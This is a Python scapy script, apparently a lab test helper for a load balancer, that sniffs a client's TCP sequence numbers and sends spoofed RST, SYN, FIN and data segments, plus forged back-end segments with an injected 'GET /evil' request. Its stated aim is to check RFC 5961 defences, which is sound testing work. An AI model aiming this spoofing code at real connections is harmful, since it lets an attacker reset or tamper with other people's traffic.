#!/usr/bin/python3
"""A blind attacker on one connection, with scapy, for tests/lab/blind.sh
and tests/lab/bench_attack.sh.

    blind.py peek CLIENT_PORT
        (in the client's namespace) prints "ready" once listening, then
        "SEQ ACK" from the first segment with data the client sends from
        CLIENT_PORT to port 80 (its request): SEQ is the client's next
        sequence number after it (a downloading client sends no more
        data), ACK its acknowledgment then. Where the sequence spaces
        are, for the offsets below.
    blind.py fetch VIP PATH CLIENT_PORT PAUSE_AT GO_FILE
        (in the client's namespace) GETs PATH from VIP:80 from
        CLIENT_PORT; after PAUSE_AT bytes of body it stops reading (its
        window closes, the connection stays open) and prints "paused",
        until GO_FILE exists (at most 300 s); then reads the rest and
        prints the body's sha256. Exits 1 if the connection fails.
    blind.py attack VIP CLIENT CLIENT_PORT SEQ ACK COUNT SECONDS [KINDS]
        (in the attacker's namespace) sends segments as CLIENT:CLIENT_PORT
        to VIP:80 until COUNT are sent or SECONDS pass: RSTs at offsets
        from SEQ (in the window, not at it, and outside it), SYNs past the
        sequence space with a newer timestamp, FINs and data at those
        offsets with acknowledgments no stack takes (of data never sent,
        or more than a window old), then segments of each kind at random
        sequence and acknowledgment numbers. KINDS (default RSFD) picks
        RSTs, SYNs, FINs and data. Prints "N spoofed segments in S s".
    blind.py forward BACKEND CLIENT CLIENT_PORT SEQ COUNT [OUTER_SRC]
        (in the attacker's namespace) sends COUNT segments as
        CLIENT:CLIENT_PORT straight to BACKEND:80, as if the front-end
        had forwarded them: RSTs at SEQ itself (which the back-end's
        stack would take), data and FINs there; with OUTER_SRC, each
        inside IPIP from that address (as `encap ipip` forwards). Prints
        "N forged forwarded segments".

RFC 5961 is what lets none of them end or corrupt the connection; a
segment in the window with a good acknowledgment is the attack it leaves
possible (2^-32 squared odds, blind), so none is sent here.
"""
import hashlib
import os
import random
import socket
import sys
import time

from scapy.all import IP, TCP, conf

conf.verb = 0

OFFSETS = [1, 100, 1 << 16, 1 << 20, 1 << 24, 1 << 31, -1, -(1 << 16), -(1 << 20)]
M32 = (1 << 32) - 1


def peek(port):
    listen = conf.L2listen(iface="eth0")
    print("ready", flush=True)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        p = listen.recv()
        if (p is not None and TCP in p and p[TCP].sport == port and p[TCP].dport == 80
                and len(p[TCP].payload) > 0):
            print((p[TCP].seq + len(p[TCP].payload)) & M32, p[TCP].ack, flush=True)
            return
    sys.exit("no request from the client seen")


def fetch(vip, path, port, pause_at, go_file):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 256 * 1024)
    s.bind(("", port))
    s.settimeout(120)
    s.connect((vip, 80))
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {vip}\r\nConnection: close\r\n\r\n".encode())
    buf = b""
    while b"\r\n\r\n" not in buf:
        chunk = s.recv(65536)
        if not chunk:
            sys.exit("closed before the response head")
        buf += chunk
    body = buf.split(b"\r\n\r\n", 1)[1]
    digest, got, paused = hashlib.sha256(body), len(body), False
    while True:
        if not paused and got >= pause_at:
            print("paused", flush=True)
            end = time.monotonic() + 300
            while not os.path.exists(go_file) and time.monotonic() < end:
                time.sleep(0.2)
            paused = True
        chunk = s.recv(min(65536, max(1, pause_at - got)) if not paused else 65536)
        if not chunk:
            break
        digest.update(chunk)
        got += len(chunk)
    print(digest.hexdigest(), flush=True)


def segments(client, port, vip, seq, ack, kinds):
    """The attack's segments of the kinds in `kinds` (R: RSTs, S: SYNs,
    F: FINs, D: data), the aimed ones first, then random ones forever."""
    base = IP(src=client, dst=vip)
    ts_ahead = [("Timestamp", (random.getrandbits(31) | (1 << 31), 0))]
    bad_acks = [(ack + (1 << 30)) & M32, (ack - (1 << 30)) & M32]
    aimed = []
    for o in OFFSETS:
        s = (seq + o) & M32
        aimed.append(("R", TCP(sport=port, dport=80, flags="R", seq=s)))
        for a in bad_acks:
            aimed.append(("F", TCP(sport=port, dport=80, flags="FA", seq=s, ack=a)))
            aimed.append(("D", TCP(sport=port, dport=80, flags="A", seq=s, ack=a) / (b"X" * 100)))
    for a in bad_acks:
        aimed.append(("D", TCP(sport=port, dport=80, flags="A", seq=seq, ack=a) / (b"X" * 100)))
    aimed.append(("S", TCP(sport=port, dport=80, flags="S", seq=(seq + (1 << 30)) & M32,
                           options=ts_ahead)))
    for kind, t in aimed:
        if kind in kinds:
            yield base / t
    flags = {"R": "R", "S": "S", "F": "FA", "D": "A"}
    while True:
        kind = random.choice(kinds)
        t = TCP(sport=port, dport=80, flags=flags[kind], seq=random.getrandbits(32),
                ack=random.getrandbits(32) if kind in "FD" else 0,
                options=ts_ahead if kind == "S" else [])
        yield base / t / (b"X" * 100 if kind == "D" else b"")


def attack(vip, client, port, seq, ack, count, seconds, kinds="RSFD"):
    sock = conf.L3socket()
    end = time.monotonic() + seconds
    sent = 0
    for p in segments(client, port, vip, seq, ack, kinds):
        if sent >= count or time.monotonic() > end:
            break
        sock.send(p)
        sent += 1
    print(sent, "spoofed segments in", round(time.monotonic() - end + seconds, 1), "s")


def forward(backend, client, port, seq, count, outer=None):
    base = IP(src=client, dst=backend)
    if outer:
        base = IP(src=outer, dst=backend, proto=4) / base
    kinds = [TCP(sport=port, dport=80, flags="R", seq=seq),
             TCP(sport=port, dport=80, flags="RA", seq=seq, ack=random.getrandbits(32)),
             TCP(sport=port, dport=80, flags="PA", seq=seq,
                 ack=random.getrandbits(32)) / b"GET /evil HTTP/1.1\r\n\r\n",
             TCP(sport=port, dport=80, flags="FA", seq=seq, ack=random.getrandbits(32))]
    sock = conf.L3socket()
    for i in range(count):
        sock.send(base / kinds[i % len(kinds)])
    print(count, "forged forwarded segments")


if __name__ == "__main__":
    if sys.argv[1] == "peek":
        peek(int(sys.argv[2]))
    elif sys.argv[1] == "fetch":
        v, path, p, at, go = sys.argv[2:7]
        fetch(v, path, int(p), int(at), go)
    elif sys.argv[1] == "forward":
        b, c, p, s, n = sys.argv[2:7]
        forward(b, c, int(p), int(s), int(n), sys.argv[7] if len(sys.argv) > 7 else None)
    else:
        v, c, p, s, a, n, t = sys.argv[2:9]
        attack(v, c, int(p), int(s), int(a), int(n), float(t), *sys.argv[9:10])
